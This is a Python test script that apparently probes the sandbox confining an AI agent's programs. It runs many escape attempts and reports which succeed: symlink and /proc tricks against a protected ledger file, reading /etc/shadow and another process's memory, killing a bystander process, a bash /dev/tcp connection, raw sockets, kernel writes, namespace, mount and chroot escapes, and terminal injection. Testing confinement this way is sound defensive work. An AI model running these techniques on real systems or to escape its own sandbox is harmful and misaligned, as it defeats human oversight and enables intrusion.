"""Attacks on an agent's confinement: a script that tries everything it can think of, run where an agent's programs run.

Argument: JSON of what it is after. Prints JSON: attack -> what it got, for those that got something.
"""

# Attacks are written as attackers write, and what one does not return is nothing.
# ruff: noqa: PTH101, PTH104, PTH108, PTH109, PTH116, PTH118, PTH120, PTH123, PTH208, PTH211, RET501, RET503, PERF401
from __future__ import annotations

import ctypes
import json
import mmap
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys

GIVEN = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
ATTACKS = {}


def attack(deed):
    ATTACKS[deed.__name__.replace("_", " ")] = deed
    return deed


def read(path):
    with open(path, "rb") as file:
        return file.read(64) or None


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "call")
    return result


def call(number, *arguments):
    if os.uname().machine != "x86_64":  # whose numbers these are
        raise OSError
    return checked(libc.syscall(number, *arguments))


@attack
def read_the_ledger():
    return read(GIVEN["ledger"])


@attack
def read_the_ledger_through_a_link():
    os.symlink(GIVEN["ledger"], "link")
    return read("link")


@attack
def read_the_ledger_through_another_name():
    os.link(GIVEN["ledger"], "other-name")
    return read("other-name")


@attack
def read_the_ledger_by_the_way_of_the_workspace():
    return read(os.path.join("..", "..", *GIVEN["ledger"].split("/")[-1:])) or read("/proc/self/cwd/../../ledger.sqlite")


@attack
def read_the_ledger_through_other_roots():
    for process in ("self", "1", str(os.getppid()), str(GIVEN["process"])):
        for way in ("root", "cwd/../../../../../../../../.."):
            try:
                return read(f"/proc/{process}/{way}{GIVEN['ledger']}")
            except OSError:
                continue


@attack
def copy_the_ledger_with_programs_of_the_system():
    done = subprocess.run(["cp", GIVEN["ledger"], "copy"], capture_output=True)
    return None if done.returncode else read("copy")


@attack
def map_the_ledger():
    file = os.open(GIVEN["ledger"], os.O_RDWR)
    return mmap.mmap(file, 1)[:]


@attack
def open_the_ledger_by_handle():
    return call(304, -100, b"\0" * 64, os.O_RDONLY)


@attack
def change_the_ledger():
    with open(GIVEN["ledger"], "ab") as file:
        file.write(b"lawbook-was-here")
    return "written"


@attack
def cut_the_ledger():
    os.truncate(GIVEN["ledger"], 0)
    return "cut"


@attack
def move_the_ledger():
    os.rename(GIVEN["ledger"], "mine")
    return "moved"


@attack
def remove_the_ledger():
    os.unlink(GIVEN["ledger"])
    return "removed"


@attack
def change_the_mode_of_the_ledger():
    os.chmod(GIVEN["ledger"], 0o777)
    return "changed" if os.stat(GIVEN["ledger"]).st_mode & 0o777 == 0o777 else None


@attack
def change_the_mode_of_a_program_of_the_system():
    with open("/usr/bin/env", "rb") as program:
        mode = os.fstat(program.fileno()).st_mode
        os.fchmod(program.fileno(), mode | 0o2)
        return "changed" if os.fstat(program.fileno()).st_mode != mode else None


@attack
def read_the_source_of_worlds():
    return read(GIVEN["world"])


@attack
def import_the_project():
    sys.path.insert(0, GIVEN["root"])
    try:
        import lawbook

        return read(lawbook.__file__)
    except ImportError:
        return None


@attack
def import_what_is_installed():
    sys.path.append(GIVEN["packages"])
    for name in ("arcengine", "gymnasium", "rich"):
        try:
            module = __import__(name)
            return str(read(module.__file__))
        except ImportError:
            continue


@attack
def list_the_run():
    # On the rung of namespaces an empty skeleton of folders leads to one's own.
    return [name for name in os.listdir(os.path.dirname(GIVEN["ledger"])) if name == "ledger.sqlite"]


@attack
def read_secrets_of_the_system():
    return read("/etc/shadow")


@attack
def read_the_environment_of_the_run():
    return read(f"/proc/{GIVEN['process']}/environ")


@attack
def read_the_command_of_the_run():
    return read(f"/proc/{GIVEN['process']}/cmdline")


@attack
def read_the_memory_of_the_run():
    with open(f"/proc/{GIVEN['process']}/mem", "rb"):
        return "opened"


@attack
def read_the_memory_of_the_run_by_call():
    class Part(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    here = ctypes.create_string_buffer(8)
    mine, theirs = Part(ctypes.addressof(here), 8), Part(GIVEN["address"], 8)
    return checked(libc.process_vm_readv(GIVEN["process"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))


@attack
def find_processes_of_others():
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):
            found.append(read(f"/proc/{name}/cmdline"))
    return [command for command in found if command]


@attack
def trace_the_run():
    return checked(libc.ptrace(0x4206, GIVEN["process"], None, None)) + 1  # PTRACE_SEIZE: the run is not stopped by it


@attack
def signal_the_run():
    os.kill(GIVEN["process"], 0)
    return "reached"


@attack
def end_the_bystander():
    os.kill(GIVEN["bystander"], signal.SIGKILL)
    return "ended"


@attack
def end_the_bystander_by_descriptor():
    signal.pidfd_send_signal(os.pidfd_open(GIVEN["bystander"]), signal.SIGKILL)
    return "ended"


@attack
def end_the_bystander_by_a_limit():
    import resource

    resource.prlimit(GIVEN["bystander"], resource.RLIMIT_CPU, (1, 1))
    return "limited"


@attack
def end_the_bystander_by_an_owner_of_signals():
    import fcntl

    one, other = socket.socketpair()
    fcntl.fcntl(one, fcntl.F_SETOWN, GIVEN["bystander"])
    fcntl.fcntl(one, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC)
    other.send(b"x")
    return None  # whether it lives is seen outside


@attack
def take_the_descriptor_of_another():
    return call(438, os.pidfd_open(GIVEN["process"]), 0, 0) + 1


@attack
def connect_elsewhere():
    with socket.create_connection(("127.0.0.1", GIVEN["tcp"]), 2) as stranger:
        stranger.send(b"lawbook")
    return "connected"


@attack
def connect_elsewhere_by_another_family():
    with socket.socket(socket.AF_INET6) as stranger:
        stranger.settimeout(2)
        stranger.connect(("::ffff:127.0.0.1", GIVEN["tcp"]))
        return "connected"


@attack
def connect_elsewhere_by_many_paths():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as stranger:
        stranger.connect(("127.0.0.1", GIVEN["tcp"]))
        return "connected"


@attack
def connect_elsewhere_with_the_first_byte():
    with socket.socket() as stranger:
        stranger.settimeout(2)
        return stranger.sendto(b"lawbook", 0x20000000, ("127.0.0.1", GIVEN["tcp"]))


@attack
def send_a_datagram():
    with socket.socket(type=socket.SOCK_DGRAM) as stranger:
        return stranger.sendto(b"lawbook", ("127.0.0.1", GIVEN["udp"]))


@attack
def ask_for_a_name():
    return socket.getaddrinfo("example.com", 80)


@attack
def listen():
    with socket.create_server(("0.0.0.0", 0)):
        return None if GIVEN["alone"] else "listening"  # in a network of one's own nobody can come


@attack
def open_a_raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()
    return "opened"


@attack
def open_a_packet_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).close()
    return "opened"


@attack
def open_a_netlink_socket():
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
    return "opened"


@attack
def connect_to_a_socket_of_others():
    with socket.socket(socket.AF_UNIX) as stranger:
        stranger.connect(GIVEN["unix"])
        return stranger.send(b"lawbook")


@attack
def connect_to_an_abstract_socket():
    with socket.socket(socket.AF_UNIX) as stranger:
        stranger.connect("\0" + GIVEN["abstract"])
        return stranger.send(b"lawbook")


@attack
def connect_by_programs_of_the_system():
    done = subprocess.run(["bash", "-c", f"echo lawbook > /dev/tcp/127.0.0.1/{GIVEN['tcp']}"], capture_output=True)
    return "connected" if done.returncode == 0 else None


@attack
def write_elsewhere():
    written = []
    for folder in GIVEN["folders"]:
        try:
            pathlib.Path(folder, "lawbook-was-here").write_text("x")
            written.append(folder)
        except OSError:
            continue
    return written


@attack
def change_a_program_of_the_system():
    os.close(os.open(shutil.which("true"), os.O_WRONLY))
    return "opened"


@attack
def write_to_the_kernel():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/sys/kernel/uevent_helper"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            return path
        except OSError:
            continue


@attack
def make_a_device():
    os.mknod("disk", 0o600 | 0o060000, os.makedev(254, 0))
    return "made"


@attack
def read_a_device():
    for path in ("/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/kvm"):
        try:
            os.close(os.open(path, os.O_RDONLY))
            return path
        except OSError:
            continue


@attack
def mount():
    return checked(libc.mount(b"none", os.getcwd().encode(), b"tmpfs", 0, None)) + 1


@attack
def unmount_what_hides():
    return [checked(libc.umount2(path.encode(), 2)) for path in ("/tmp", "/proc")]


@attack
def leave_for_a_namespace():
    return [checked(libc.unshare(flag)) for flag in (0x10000000, 0x20000, 0x40000000)]


@attack
def leave_for_a_namespace_of_another():
    return call(308, os.open(f"/proc/{GIVEN['process']}/ns/mnt", os.O_RDONLY), 0) + 1


@attack
def change_the_root():
    os.chroot(".")
    return "changed"


@attack
def be_somebody_else():
    os.setgroups([0, 6])
    os.setresuid(65534, 65534, 65534)
    return os.getuid()


@attack
def own_what_is_not_ours():
    os.chown(GIVEN["ledger"], 12345, 12345)
    return "given away" if os.stat(GIVEN["ledger"]).st_uid == 12345 else None


@attack
def mark_what_is_not_ours():
    os.setxattr(GIVEN["ledger"], "user.lawbook", b"was here")
    return os.getxattr(GIVEN["ledger"], "user.lawbook")


@attack
def gain_by_a_program_that_is_somebody_else():
    done = subprocess.run(["su", "-c", "id", "daemon"], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=10)
    return done.stdout


@attack
def use_the_key_ring():
    return call(250, 0, -3, 1)


@attack
def use_io_uring():
    return call(425, 8, ctypes.create_string_buffer(120)) + 1


@attack
def share_memory_with_others():
    return call(29, 0x1A3B00C, 4096, 0o1666) + 1


@attack
def load_a_program_for_the_kernel():
    return call(321, 0, ctypes.create_string_buffer(72), 72) + 1


@attack
def type_into_the_terminal():
    import fcntl

    for path in ("/dev/tty", "/proc/self/fd/0"):
        with open(path) as terminal:
            fcntl.ioctl(terminal, 0x5412, b"x")
            return "typed"


@attack
def see_the_key():
    return [name for name, value in os.environ.items() if value == GIVEN["key"]]


def main():
    got = {}
    for name, deed in ATTACKS.items():
        child_reads, child_writes = os.pipe()
        child = os.fork()
        if child == 0:  # each in a process of its own: one that works may change everything for the next
            signal.alarm(20)
            try:
                found = deed()
            except (OSError, ValueError, AttributeError, TypeError, subprocess.SubprocessError):
                found = None
            os.write(child_writes, json.dumps(str(found) if found else None).encode())
            os._exit(0)
        os.close(child_writes)
        with open(child_reads, "rb") as answer:
            said = answer.read()
        os.waitpid(child, 0)
        if said and json.loads(said):
            got[name] = json.loads(said)
    print(json.dumps({"tried": len(ATTACKS), "got": got}))


if __name__ == "__main__":
    main()
